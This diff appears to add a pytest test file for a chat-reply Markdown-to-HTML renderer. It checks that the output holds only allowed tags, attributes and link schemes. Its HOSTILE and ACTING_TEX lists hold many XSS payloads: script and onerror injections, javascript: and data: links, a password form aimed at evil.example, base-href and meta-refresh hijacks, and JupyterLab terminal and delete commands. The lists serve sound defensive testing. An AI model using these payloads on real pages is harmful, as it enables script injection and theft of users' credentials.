@@ -1,0 +1,739 @@
+"""A reply shown: nothing in it acts, nothing of it is lost, and it looks as it was meant."""
+
+from __future__ import annotations
+
+import re
+import time
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import nh3
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chatmagic.render import markdown
+from chatmagic.render.markdown import CodeBlock, code_blocks, to_html
+from chatmagic.text import PROSE, visible
+
+# Written out here, so that a slip in the module's own lists is seen.
+TAGS = set(
+    """a blockquote br code div em h4 h5 h6 hr li ol p pre s span strong sup table tbody td th
+    thead tr ul""".split()  # noqa: SIM905 - a word a line would be a page
+)
+TURNED = {"dir", "style"}
+ATTRIBUTES = {
+    "a": {"href", "title", "target", "rel", "referrerpolicy"},
+    "div": {"class", "dir", "style", "tabindex", "role", "aria-label"},
+    "ol": {"start", *TURNED},
+    "li": {"style"},
+    "pre": {"style"},
+    "table": TURNED,
+    **dict.fromkeys(("code", "p", "ul", "blockquote", "h4", "h5", "h6", "td", "th"), TURNED),
+    "span": {"class", "role", "aria-label", "title", *TURNED},
+}
+REPLY = "chatmagic-reply mathjax_ignore tex2jax_ignore"
+CLIP = "overflow-x: auto; overflow-y: hidden; overflow-wrap: break-word;"
+UNBROKEN = (
+    "background-color: transparent; white-space: pre; overflow-x: visible; overflow-y: visible; "
+    "width: max-content; min-width: 100%;"
+)
+PRE = f'<pre style="{UNBROKEN}">'
+CODE = '<code style="background-color: transparent;">'
+ROOT = f'<div class="{REPLY}" dir="auto" style="{CLIP}">'
+FORMULA = "mathjax_process tex2jax_process"
+DIVS = {REPLY, "chatmagic-scroll", "highlight", FORMULA}
+VALUES = {
+    "target": r"_blank",
+    "referrerpolicy": r"no-referrer",
+    "rel": r"noopener noreferrer nofollow",
+    "dir": r"auto|ltr|rtl",
+    "tabindex": r"0",
+    "role": r"group|img",
+    "aria-label": r"Code(, .{1,20})?|Table|Formula|Reply as plain text|done|not done",
+    "start": r"\d{1,9}",
+    "style": r"margin-bottom: 0;|list-style-type: none;|text-align: (left|center|right);|"
+    r"overflow-x: auto; margin-bottom: 1em;|"
+    r"overflow-y: auto; max-height: 40em; margin-bottom: 1em;|"
+    r"overflow-x: auto; margin-bottom: 1em; padding: 0.4em 0.8em; border-radius: 3px; "
+    r"background-color: var\(--jp-cell-editor-background, #f5f5f5\);|"
+    rf"{CLIP}|{UNBROKEN}|{PROSE}|font-size: 1\.\d+em; font-weight: 600;"
+    r"|padding-left: 0; padding-right: 2em;|display: inline-block;|background-color: transparent;"
+    r"|border-left: none; border-right: 5px solid var\(--jp-border-color2, #bdbdbd\);",
+    "class": "|".join(sorted(DIVS)) + r"|[a-z][a-z0-9]{0,2}",  # the last: Pygments' short ones
+}
+UNSEEN = re.compile(
+    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff"
+    "\U000e0000-\U000e007f]"
+)
+MARKS = r"""` ``` $ $$ \( \) \[ \] [ ] ( ) ! < > * ** _ ~~ # | - + 1. > & ; : / \ = " ' |-|
+&#x202e; https://a.b javascript:x x@y.z python script \href \\ <b>"""
+
+
+class Page(HTMLParser):
+    """Reads a fragment and fails at anything that is not allowed, or is not closed."""
+
+    def __init__(self, html: str) -> None:
+        """Read ``html``."""
+        super().__init__(convert_charrefs=True)
+        self.text = ""
+        self.links: list[str] = []
+        self.formulas: list[str] = []
+        self.open: list[tuple[str, str | None]] = []
+        self.feed(html)
+        self.close()
+        assert not self.open
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Check a tag."""
+        assert tag in TAGS
+        found = dict(attrs)
+        assert len(found) == len(attrs)
+        assert set(found) <= ATTRIBUTES.get(tag, set())
+        for name, value in attrs:
+            assert value is not None
+            assert name not in VALUES or re.fullmatch(VALUES[name], value), (tag, name, value)
+        kind = found.get("class")
+        if tag == "div":
+            assert kind in DIVS
+            assert (kind == REPLY) == (not self.open)
+        if tag == "span":
+            assert kind not in DIVS - {FORMULA}
+        if tag == "a":
+            self.check_link(found)
+        if tag not in {"br", "hr"}:
+            self.open.append((tag, kind))
+
+    def check_link(self, found: dict[str, str | None]) -> None:
+        """Check that a link leads where it says, and nowhere but the web or a mailbox."""
+        href = found["href"]
+        assert href is not None
+        assert href == found["title"]
+        assert urlsplit(href).scheme in {"http", "https", "mailto"}
+        assert urlsplit(href).hostname or urlsplit(href).path.count("@")
+        assert {"target", "rel"} <= set(found)
+        assert "a" not in {tag for tag, _ in self.open}
+        self.links.append(href)
+
+    def handle_endtag(self, tag: str) -> None:
+        """Check that tags close in order."""
+        assert self.open.pop()[0] == tag
+
+    def handle_data(self, data: str) -> None:
+        """Keep the text."""
+        self.text += data
+        if self.open[-1][1] == FORMULA:
+            self.formulas.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        """Refuse comments."""
+        raise AssertionError(data)
+
+    def handle_decl(self, decl: str) -> None:
+        """Refuse declarations."""
+        raise AssertionError(decl)
+
+    def handle_pi(self, data: str) -> None:
+        """Refuse processing instructions."""
+        raise AssertionError(data)
+
+
+def page(text: str, *, live: bool = False) -> Page:
+    """Give the checked page of a reply."""
+    html = to_html(text, live=live)
+    assert html.replace('dir="rtl"', 'dir="auto"', 1).startswith(ROOT)
+    assert html.endswith("</div>")
+    assert not UNSEEN.search(html)
+    return Page(html)
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "text <img src=x onerror=alert(1)> text",
+    "<img src=https://evil.example/pixel.png>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    "<form action=https://evil.example><input name=password><button>Go</button></form>",
+    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    '<div style="position:fixed;inset:0;background:red">overlay</div>',
+    '<a href="#" data-commandlinker-command="terminal:create-new">click</a>',
+    '<button data-commandlinker-command="filebrowser:delete">click</button>',
+    '<p id="main" class="jp-Notebook" name="x">clobber</p>',
+    "<!-- comment --><![CDATA[ <script>alert(1)</script> ]]><?php x ?><!DOCTYPE html>",
+    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript&colon;alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](<  javascript:alert(1)>)",
+    "[x](javascript&#x3a;alert(1) 'title')",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd) [x](blob:https://evil.example/1) [x](//evil.example/x)",
+    "[x](/lab/api/terminals) [x](../x) [x](?token=1) [x](#main) [x]()",
+    "[x](https:evil.example) [x](https:///evil.example) [x](http:\\\\evil.example)",
+    '[x](https://evil.example/"onmouseover="alert(1)) [x](https://e.example/<img>)',
+    '[x](https://evil.example "\\" onclick=alert(1) x=\\"")',
+    "[x](http://[::1) [x](http://[evil]/) [x](http://[z:z]/) [x](https://:80/)",
+    "[x][ref]\n\n[ref]: javascript:alert(1)",
+    "[x][ref] ![y][ref]\n\n[ref]: data:text/html,x 'onload=alert(1)'",
+    "<javascript:alert(1)> <data:text/html,x> <https://evil.example/\"onclick='x'>",
+    "<mailto:x@evil.example> <x@evil.example> [x](mailto:) [x](mailto:?cc=x@y.z)",
+    "![x](https://evil.example/pixel.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](javascript:alert(1)) ![](https://e.example/)",
+    "[![x](https://evil.example/a.png)](https://evil.example) ![[a](https://b.c)](https://d.e)",
+    "```mermaid\ngraph TD; A[<img src=https://evil.example/x>]-->B\n```",
+    '```python" onload="alert(1)\nx\n```',
+    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
+    '~~~ {.jp-Notebook #main onclick="x"}\nx\n~~~',
+    '```js class="mathjax_process" data-x\n`$\\href{javascript:alert(1)}{x}$`\n```',
+    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img> | `</td>` |",
+    "> - > <script>x</script>\n>   1. ![x](https://e.example)\n>      # <svg/onload=alert(1)>",
+    '<span class="mathjax_process">\\(\\href{javascript:alert(1)}{x}\\)</span>',
+    "$\\href{javascript:alert(1)}{x}$",
+    "$$</script><script>alert(1)</script>$$ and $<img/src=x>$ \\(<svg/onload=x>\\)",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "&#x202e;gnp.exe&#x2066; &#xE0041; &#27;[2J &#0; &#xD800;",
+    "\x1b]0;title\x07\x1b[2J \x00 \x7f \x9b \u202eevil\u202c \ud83d \U000e0041",
+    "a\r\nb\rc\u2028d\u0085e",
+    "1. x\n999999999. y\n\n7) z",
+]
+
+ACTING_TEX = [
+    r"\href{javascript:alert(1)}{x}",
+    r"\url{https://evil.example}",
+    r"\unicode{x202E}",
+    r"\char202E",
+    r"\class{jp-Notebook}{x}",
+    r"\cssId{main}{x}",
+    r"\style{position:fixed}{x}",
+    r"\require{html}",
+    r"\def\x{\href}",
+    r"\gdef\x{y}",
+    r"\let\x=\href",
+    r"\newcommand{\x}{y}",
+    r"\renewcommand\x{y}",
+    r"\newenvironment{x}{}{}",
+    r"\DeclareMathOperator{\x}{y}",
+    r"\providecommand\x{y}",
+    r"\data{x}{y}",
+    r"\mmlToken{mi}[href=javascript:x]{y}",
+    r"\htmlData{x=y}{z}",
+    r"\htmlStyle{x}{y}",
+    r"\bbox[background:url(//evil.example)]{x}",
+    r"\fcolorbox{red;background:url(//evil.example)}{x}{y}",
+    r"\texttip{x}{y}",
+    r"\toggle{x}{y}\endtoggle",
+    r"\label{x}",
+    r"\\\href{x}{y}",
+]
+
+
+@pytest.mark.parametrize("live", [False, True])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_reply_cannot_act(text: str, live: bool) -> None:
+    """Every payload gives allowed tags, attributes, values and addresses only."""
+    page(text, live=live)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_stays_harmless_inside_other_markdown(text: str) -> None:
+    """A payload in a list, a quote, a table cell, a heading, a link or half a fence is the same."""
+    flat = " ".join(text.split())
+    shapes = [
+        f"- {flat}\n  - {flat}",
+        f"> {flat}",
+        f"|{flat}|\n|-|\n|{flat}|",
+        f"# **{flat}**",
+        f"[{flat}](https://a.example)",
+        f"```\n{text}",
+        f"$$\n{text}\n$$",
+        f"\\({flat}\\)",
+    ]
+    for shape in shapes:
+        page(shape)
+
+
+def test_html_is_shown_as_it_was_written() -> None:
+    """Nothing of a payload vanishes: the reader sees what the model said."""
+    shown = page("<script>alert(1)</script> <!-- hidden -->").text
+    assert shown.strip() == "<script>alert(1)</script> <!-- hidden -->"
+
+
+@pytest.mark.parametrize("tex", ACTING_TEX)
+def test_tex_that_reaches_out_is_shown_as_code(tex: str) -> None:
+    """TeX with commands that act is not given to the page to typeset."""
+    for formula in (f"${tex}$", f"$${tex}$$", rf"\({tex}\)", f"text\n\\[\n{tex}\n\\]"):
+        found = page(formula)
+        assert found.formulas == []
+        assert tex in found.text
+
+
+@pytest.mark.parametrize(
+    "tex",
+    [
+        r"a \\[2pt] b",
+        r"x \newline y",
+        r"\hat{y} \Uparrow",
+        r"\deg \left( \text{if } \ell \right)",
+        r"\dots",
+    ],
+)
+def test_ordinary_tex_is_typeset(tex: str) -> None:
+    """Commands that only look like dangerous ones are left alone."""
+    assert page(f"${tex}$").formulas == [rf"\({tex}\)"]
+
+
+@pytest.mark.parametrize(
+    ("text", "formulas"),
+    [
+        ("$5 and $6", []),
+        ("It costs $5, or $ 6, or US$7 and 8$.", []),
+        ("a \\$x$ and $y\\$", []),
+        ("`$x$` and ``\\(y\\)``", []),
+        ("cost $5 `x$`", []),
+        ("$$$x$$$ $$ $$ \\( \\) \\[\\]", []),
+        ("其中$x$是", [r"\(x\)"]),
+        ("\\(not closed and \\[nor this", []),
+        ("$x$ equals 5", [r"\(x\)"]),
+        ("for $x < y$, $5 more", [r"\(x < y\)"]),
+        (r"so \( e^{i\pi} \) is", [r"\(e^{i\pi}\)"]),
+        (r"so \[ x \] is, and $$y$$ too", [r"\[x\]", r"\[y\]"]),
+        ("text\n$$\na\n- b\n+ \\text{if $c$}\n$$\ntext", ["\\[a\n- b\n+ \\text{if $c$}\\]"]),
+        ("> \\[\n> x\n> - y\n> \\]", ["\\[x\n- y\\]"]),
+        ("- a\n  $$\n  x\n  $$\n\n  b", ["\\[x\\]"]),
+        ("- a\n  $$\n  x\n$$", ["\\[x\\]"]),
+        ("- a\n\n  $$\n  x\n- y$$", []),
+        ("$$\na\n\nb\n$$", []),
+        ("    $$x$$", []),
+        ("> $$ a\n> b$$ c", ["\\[a\nb\\]"]),
+        ("> $$ a\nb$$", ["\\[a\nb\\]"]),
+        ("> $$\n>> x$$\n", ["\\[> x\\]"]),
+        ("> $$ a $b\n$ c$$", ["\\[a $b\n$ c\\]"]),
+        ("$$x", []),
+    ],
+)
+def test_formulas_are_found(text: str, formulas: list[str]) -> None:
+    """Dollars and brackets around TeX are formulas; money, code and halves are text."""
+    assert page(text).formulas == formulas
+
+
+def test_no_page_looks_for_formulas_elsewhere_in_a_reply() -> None:
+    """JupyterLab and the pages of nbconvert each know a class of their own."""
+    html = to_html("$x$")
+    assert re.match(r'<div class="[^"]*\bmathjax_ignore tex2jax_ignore"', html)
+    assert html.count("mathjax_process tex2jax_process") == 1
+
+
+def test_formulas_stand_where_the_page_typesets_them() -> None:
+    """Inline ones are spans, blocks are divs, and TeX is escaped."""
+    assert f'<p><span class="{FORMULA}">\\(a&lt;b\\)</span></p>' in to_html("$a<b$")
+    assert f'\n<div class="{FORMULA}">\\[a&lt;b\\]</div>\n' in to_html("$$\na<b\n$$")
+
+
+def test_text_after_a_formula_stays() -> None:
+    """A formula that shares its last line with words is no block, and the words stay."""
+    assert page("$$x$$ and more").text.strip() == "\\[x\\] and more"
+
+
+def test_characters_that_act_are_shown_among_markdown() -> None:
+    """They take a sign of their own and disturb nothing around them."""
+    assert "<strong>\u2400\ufffd\u241b</strong>" in to_html("**\x00\ud800\x1b**")
+
+
+def test_a_live_reply_shows_formulas_as_their_source() -> None:
+    """While it streams nothing is typeset or coloured."""
+    html = to_html("$a_1 b_1$\n\n$$\nx\n$$\n\n```python\nimport os\n```", live=True)
+    assert "<code>$a_1 b_1$</code>" in html
+    assert f"{PRE}<code>$$\nx\n$$</code></pre>" in html
+    assert f'<div class="highlight">{PRE}{CODE}import os\n</code></pre></div>' in html
+    assert "mathjax_process" not in html
+    assert "<span" not in html
+
+
+def test_a_page_is_not_frozen_by_formulas() -> None:
+    """Past the first 500 they are shown as code."""
+    found = page("$x$ " * 501)
+    assert len(found.formulas) == 500
+    assert found.text.strip().endswith("\\) $x$")
+
+
+@pytest.mark.parametrize(
+    ("tex", "typeset"),
+    [
+        (r"\frac{1}{" * 30 + "x" + "}" * 30, True),
+        (r"\frac{1}{" * 31 + "x" + "}" * 31, False),
+        (r"\{\{" * 40, True),
+        ("{x}" * 40, True),
+        ("}" * 40 + "{" * 31, False),
+        (r"\left(" * 31 + "x" + r"\right)" * 31, False),
+        (r"\left[x\right] + " * 31, True),
+        (r"\leftarrow " * 31, True),
+        (r"\begin{matrix}" * 31 + "x" + r"\end{matrix}" * 31, False),
+        (r"\sqrt[{]}" * 31, False),
+        (r"\root x \of y + " * 31, False),
+        (r"\root x \of y + " * 30, True),
+        (r"\rule{1em}{99em}", True),
+        (r"\rule{1em}{999em}", False),
+        (r"\hspace{-100.5 em}x", False),
+        (r"\text{100 mm}", True),
+    ],
+)
+def test_a_page_is_not_broken_by_a_formula(tex: str, typeset: bool) -> None:
+    """One that is deep enough to crash a tab, or as long as a book, is shown as code."""
+    found = page(f"${tex}y$")
+    assert bool(found.formulas) == typeset
+    assert found.text.count(tex) == 1
+
+
+def test_a_page_is_not_frozen_by_long_formulas() -> None:
+    """Past 10,000 characters of TeX they are shown as code."""
+    assert len(page(("$" + "x + " * 1000 + "x$ ") * 3).formulas) == 2
+
+
+def test_headings_start_at_level_four() -> None:
+    """A reply's title is not the page's own."""
+    html = to_html("# a\n## b\n### c\n#### d\n###### e\n\nf\n===\n")
+    assert re.findall(r"<(h\d) [^>]*>(\w)</\1>", html) == [
+        ("h4", "a"),
+        ("h5", "b"),
+        ("h6", "c"),
+        ("h6", "d"),
+        ("h6", "e"),
+    ]
+
+
+def test_headings_leave_no_level_out() -> None:
+    """Who reads by headings goes down one level at a time, whatever the reply leaves out."""
+    html = to_html("### a\n# b\n#### c\n### d\n##### e\n## f\n")
+    found = re.findall(r"<(h\d) [^>]*>(\w)</\1>", html)
+    assert " ".join(f"{tag}{name}" for tag, name in found) == "h4a h4b h5c h5d h6e h5f"
+
+
+def test_lists_quotes_and_emphasis_look_as_meant() -> None:
+    """The ordinary shapes of Markdown are there."""
+    html = to_html("3. **a**\n4. *b*\n\n- c\n\n> ~~d~~\n\n---\ne  \nf")
+    for part in (
+        '<ol start="3">\n<li><strong>a</strong></li>\n<li><em>b</em></li>\n</ol>',
+        "<ul>\n<li>c</li>\n</ul>",
+        "<blockquote>\n<p><s>d</s></p>\n</blockquote>",
+        "<hr>",
+        "e<br>\nf",
+    ):
+        assert part in html
+
+
+def test_a_table_is_aligned_and_can_be_scrolled() -> None:
+    """A table stands in a box that takes focus; its columns keep their sides."""
+    html = to_html("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |")
+    assert '<div class="chatmagic-scroll" style="overflow-x: auto; margin-bottom: 1em;"' in html
+    assert 'tabindex="0" role="group" aria-label="Table"><table style="margin-bottom: 0;">' in html
+    assert '<th style="text-align: left;">a</th>\n<th style="text-align: right;">b</th>' in html
+    assert '<td style="text-align: left;">1</td>\n<td style="text-align: right;">2</td>' in html
+    assert "</table></div>" in html
+
+
+def test_code_is_coloured_by_classes_that_the_page_knows() -> None:
+    """Pygments' short classes; the box says the language; the code is all there."""
+    code = "\n\nimport os  # <b>\n!pip\n"
+    html = to_html(f"```Python title=x\n{code}```")
+    assert f'aria-label="Code, Python"><div class="highlight">{PRE}{CODE}' in html
+    assert '<span class="kn">import</span>' in html
+    assert 'class="err"' not in html
+    assert Page(html).text.strip("\n") == code.strip("\n")
+    assert f"{CODE}{code[:2]}" in html
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        "```\nimport os\n```",
+        "```mermaid\nimport os\n```",
+        "    import os",
+        "```python\nimport os\n" + "x" * 500 + "\n```",
+        "```python\nimport os" + "\n" * 200 + "```",
+        "```python\n" + "import os\n" * 1001 + "```",
+    ],
+)
+def test_code_without_colours_is_still_code(block: str) -> None:
+    """Unknown languages, and code that takes long to colour, are shown plain."""
+    html = to_html(block)
+    assert "<span" not in html
+    assert f'<div class="highlight">{PRE}{CODE}' in html
+    assert "import os\n" in html
+
+
+def test_a_link_opens_elsewhere_and_shows_its_address() -> None:
+    """A link has its address in the title and gives nothing away to where it leads."""
+    assert (
+        '<a href="https://docs.python.org/3/?a=1&amp;b=2" '
+        'title="https://docs.python.org/3/?a=1&amp;b=2" referrerpolicy="no-referrer" '
+        'target="_blank" rel="noopener noreferrer nofollow">the docs (docs.python.org)</a>'
+    ) in to_html('[the docs](https://docs.python.org/3/?a=1&b=2 "ignored")')
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("[python.org](https://www.python.org/x)", "python.org"),
+        ("[https://Python.org/a](https://python.org/b)", "https://Python.org/a"),
+        ("[www.python.org](https://python.org)", "www.python.org"),
+        ("<https://python.org>", "https://python.org"),
+        ("<me@python.org>", "me@python.org"),
+        ("[the docs](https://evil.example)", "the docs (evil.example)"),
+        ("[python.org](https://evil.example)", "python.org (evil.example)"),
+        ("[**python**.org](https://evil.example)", "python.org (evil.example)"),
+        ("[python\u200b.org](https://evil.example)", "python\u200b.org (evil.example)"),
+        ("[python\uff0eorg](https://evil.example)", "python\uff0eorg (evil.example)"),
+        ("[python.org](https://python.org.evil.example)", "python.org (python.org.evil.example)"),
+        ("[python.org.evil](https://python.org)", "python.org.evil (python.org)"),
+        ("<https://python.org@evil.example>", "https://python.org@evil.example (evil.example)"),
+        ("[me@python.org](mailto:you@evil.example)", "me@python.org (you@evil.example)"),
+        ("[`python.org`](https://evil.example)", "python.org (evil.example)"),
+        ("[$a.b$](https://evil.example)", "\\(a.b\\) (evil.example)"),
+        ("[a](http://127.0.0.1:8000/x)", "a (127.0.0.1)"),
+        ("[a](http://[::1]/x)", "a (::1)"),
+        ("[a](http://0x7f.1/x)", "a (http://0x7f.1/x)"),
+        ("[a](http://2130706433)", "a (http://2130706433)"),
+        ("[guide](docs/guide.md)", "guide (docs/guide.md)"),
+        ("<ftp://old.example>", "ftp://old.example"),
+        ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
+        ("![a *plot*](https://a.example/p.png)", "image: a plot (a.example)"),
+        ("![](https://a.example/p.png)", "image: https://a.example/p.png"),
+        ("![python.org](https://evil.example)", "image: python.org (evil.example)"),
+        ("![plot](plot.png)", "image: plot (plot.png)"),
+        ("![](plot.png)", "image: plot.png"),
+        ("[![a](https://a.example/p)](https://b.example)", "image: a (b.example)"),
+        ("[![a](https://a.example/p)](x.md)", "image: a (x.md)"),
+    ],
+)
+def test_a_link_says_where_it_leads(text: str, shown: str) -> None:
+    """The true place stands beside a text that is another; images say that they are."""
+    assert page(text).text.strip() == shown
+
+
+def test_an_image_is_a_link_and_is_not_fetched() -> None:
+    """Nothing but a link is left of an image."""
+    assert page("![x](https://evil.example/pixel.png)").links == ["https://evil.example/pixel.png"]
+    assert page("[![x](https://a.example)](https://b.example)").links == ["https://b.example"]
+
+
+@pytest.mark.parametrize(
+    ("text", "part"),
+    [
+        ("```python\nx = 1", f"{PRE}{CODE}x = 1</code></pre>"),
+        ("```pyth", f'<div class="highlight">{PRE}{CODE}</code></pre></div>'),
+        ("| a | b |\n|--", "<p>| a | b |\n|--</p>"),
+        ("| a | b |\n|---|---|\n| 1", '>1</td>\n<td style="text-align: left;"></td>'),
+        ("see [the docs](https://docs.py", "<p>see [the docs](https://docs.py</p>"),
+        ("**bol", "<p>**bol</p>"),
+        ("Some text\n-", "<p>Some text\n-</p>"),
+        ("", f"{ROOT}\n</div>"),
+    ],
+)
+def test_half_a_reply_is_shown_as_far_as_it_goes(text: str, part: str) -> None:
+    """What is not finished stands there as text and changes nothing around it."""
+    assert part in to_html(text, live=True)
+
+
+def test_every_prefix_of_a_reply_is_safe() -> None:
+    """A reply that streams is never less safe on the way."""
+    text = "".join(f"{payload}\n\n" for payload in HOSTILE[::6])
+    for end in range(0, len(text), 5):
+        page(text[:end], live=True)
+
+
+@given(st.text(st.characters(exclude_categories=())), st.booleans())
+def test_any_text_is_shown(text: str, live: bool) -> None:
+    """No text raises, acts, or gives two different pages."""
+    page(text, live=live)
+    assert to_html(text, live=live) == to_html(text, live=live)
+    code_blocks(text)
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                *MARKS.split(),
+                *["\n", "\n\n", " ", "    ", "\t", "\r", "\x1b", "\ud800"],
+            ]
+        ),
+        max_size=60,
+    ).map("".join),
+    st.booleans(),
+)
+def test_any_markdown_is_shown(text: str, live: bool) -> None:
+    """What is made of Markdown's own signs is as safe as any text."""
+    page(text, live=live)
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        ">", "[", "*", "![", "_a ", "`a", "<", "&", "\\", "|", "- ", "1. ", "~~", "$", "$a",
+        "$$x\n", "\\(", "\\[x\n", "$$\n- a\n", "[a](", "[![", "a\n> ", "[a]: x\n", "[x](http://a.b)",
+        "```csharp\na\n\n", "```c\n\n\n\n", "&#x202e;", "| a |\n|---|\n",
+    ],
+)  # fmt: skip
+def test_fifty_thousand_characters_take_no_more_than_a_moment(part: str) -> None:
+    """Neither depth nor length blows the stack or the clock (this machine may be busy)."""
+    text = part * (50_000 // len(part))
+    started = time.process_time()
+    page(text)
+    assert time.process_time() - started < 10
+
+
+@pytest.mark.parametrize(
+    "text", [">" * 30 + " deep", "".join("  " * i + "- x\n" for i in range(12))]
+)
+def test_what_lies_too_deep_is_shown_plain(text: str) -> None:
+    """Nothing is left out: past the reader's depth the whole reply is plain text."""
+    found = page(text)
+    assert text in found.text
+    assert "Shown as plain text: its lists or quotations lie too deep" in to_html(text)
+
+
+@pytest.mark.parametrize(
+    ("live", "why", "kept"),
+    [
+        (False, "it has 500,000 characters.", 62_500),
+        (
+            True,
+            "it has 500,000 characters; while it streams its newest 20,000 characters are shown.",
+            2_500,
+        ),
+    ],
+)
+def test_a_page_is_not_frozen_by_length(*, live: bool, why: str, kept: int) -> None:
+    """From half a million characters on a reply is plain text, and says so."""
+    words = "**<b>** "
+    text = words * 62_500
+    assert "<strong>&lt;b&gt;</strong>" in to_html(text[:-1], live=live)
+    html = to_html(text, live=live)
+    assert f"Shown as plain text: {why}</em>" in html
+    assert page(text, live=live).text.count(words) == kept
+    assert f'<pre style="{PROSE}">' in html
+    assert "<strong>" not in html
+
+
+@pytest.mark.parametrize("block", ["- a\n", "# a\n", "a\n\n", "```\na\n```\n", "***\n", "> a\n\n"])
+def test_a_page_is_not_frozen_by_many_small_blocks(block: str) -> None:
+    """Many thousand points or code blocks are plain text, whole, long before a reply is long."""
+    assert "as plain text" not in to_html(block * 500)
+    text = block * 5_100
+    html = to_html(text)
+    assert re.search(r"Shown as plain text: it has [\d,]+ paragraphs, points or blocks\.", html)
+    assert page(text).text.count("a") >= text.count("a")
+    live = to_html(text, live=True)
+    assert ("while it streams its newest 20,000 characters" in live) == (len(text) > 20_000)
+    assert len(page(text, live=True).text) < 20_300
+    table = "|a|\n|-|\n" + "|b|\n" * 4_999
+    assert "as plain text" not in to_html(table)
+
+
+def test_only_the_first_headings_are_headings() -> None:
+    """JupyterLab's table of contents takes minutes for some thousand; later ones are bold."""
+    html = to_html("# a\n" * 201 + "## b *c*\n\nd")
+    assert html.count("</h4>") == 200
+    assert "<h5" not in html
+    assert html.endswith(
+        "<p><strong>a</strong></p>\n<p><strong>b <em>c</em></strong></p>\n<p>d</p>\n</div>"
+    )
+    assert '<p dir="rtl"><strong>\u05d0' in to_html("# a\n" * 200 + "a\n\n# \u05d0\u05d1\n")
+
+
+def test_a_fault_in_the_reader_costs_no_reply(monkeypatch: pytest.MonkeyPatch) -> None:
+    """If Markdown cannot be read for any reason, the text is shown as it is."""
+
+    def fail(*_: object) -> None:
+        raise RuntimeError("a fault")
+
+    monkeypatch.setattr(markdown._MARKDOWN, "parse", fail)
+    html = to_html("<b> # x \x1b")
+    assert f'<pre style="{PROSE}">&lt;b&gt; # x \u241b</pre>' in html
+    assert "Shown as plain text: it could not be rendered." in html
+    assert code_blocks("```\nx\n```") == ()
+
+
+def test_nh3_alone_would_hold(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The last wall stands by itself: with HTML let through by the reader, nothing acts."""
+    monkeypatch.setattr(
+        markdown._MARKDOWN.renderer, "render", lambda *_: visible("\n".join(HOSTILE))
+    )
+    html = to_html("x")
+    assert "as plain text" not in html
+    for word in ("<script", "<img", "<style", "<form", "<base", "<svg", "<iframe", "<button"):
+        assert word not in html
+    inside = html.removeprefix(ROOT)
+    assert inside != html
+    assert not re.search(r"<[^>]*\s(id|name|style|on\w+|data-\w+)=", inside)
+    assert 'class="jp-Notebook"' not in html
+
+
+def test_nh3_lets_only_absolute_addresses_through(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Relative addresses and other schemes lose their address even there."""
+    hrefs = [
+        "/lab",
+        "//evil.example",
+        "javascript:x",
+        "data:,x",
+        "http://[::1",
+        "https://good.example",
+    ]
+    links = "".join(f'<a href="{href}">x</a>' for href in hrefs)
+    monkeypatch.setattr(markdown._MARKDOWN.renderer, "render", lambda *_: links)
+    assert re.findall(r'href="([^"]*)"', to_html("x")) == ["https://good.example"]
+
+
+def test_the_html_is_what_nh3_would_make_of_it_again() -> None:
+    """Reading the page again changes nothing: there is no second meaning in it."""
+    for text in HOSTILE:
+        html = to_html(text)
+        assert nh3.is_html(html)
+        assert markdown._closed(html.removeprefix(html[: html.index(">") + 2])[:-6]) == html
+
+
+def test_code_blocks_are_the_fenced_ones_in_order() -> None:
+    """Fences in lists and quotes count, indented code does not, and an open one counts."""
+    text = (
+        "```python x=1\nprint('hi')\n```\n\n- a\n  ~~~\n  b\n\n    c\n  ~~~\n\n"
+        "> ```R\n> 1\n> ```\n\n    indented\n\n`inline`\n\n```\nopen \u202e"
+    )
+    assert code_blocks(text) == (
+        CodeBlock("python", "print('hi')\n"),
+        CodeBlock("", "b\n\n  c\n"),
+        CodeBlock("R", "1\n"),
+        CodeBlock("", "open \ufffd"),
+    )
+
+
+def test_a_language_is_only_a_name() -> None:
+    """What a fence says of its language cannot leave the label that names it."""
+    html = to_html("```<td><svg/onload=x()>\n1\n```")
+    assert 'aria-label="Code, tdsvgonloadx"' in html
+    assert 'aria-label="Code, c++"' in to_html("```c++\n1\n```")
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("one\ntwo", "<p>one<br>\ntwo</p>"),
